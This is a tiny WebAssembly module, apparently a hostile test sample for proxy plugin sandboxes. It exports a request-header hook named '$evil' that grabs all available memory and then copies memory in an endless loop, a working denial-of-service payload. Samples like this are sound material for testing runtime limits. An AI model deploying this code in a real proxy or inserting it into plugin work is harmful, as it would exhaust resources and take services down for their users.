;; Takes all the memory it can get and copies one half over the other, for ever.
(func $take
  (loop $lots (br_if $lots (i32.ne (memory.grow (i32.const 64)) (i32.const -1))))
  (loop $more (br_if $more (i32.ne (memory.grow (i32.const 1)) (i32.const -1)))))
(func $evil (export "proxy_on_request_headers") (param i32 i32 i32) (result i32) 
  (call $take)
  (loop $again
    (memory.copy (i32.const 0) (i32.shl (memory.size) (i32.const 15)) (i32.shl (memory.size) (i32.const 15)))
    (memory.copy (i32.const 1) (i32.const 0) (i32.sub (i32.shl (memory.size) (i32.const 16)) (i32.const 1)))
    (br $again))
  (i32.const 0))
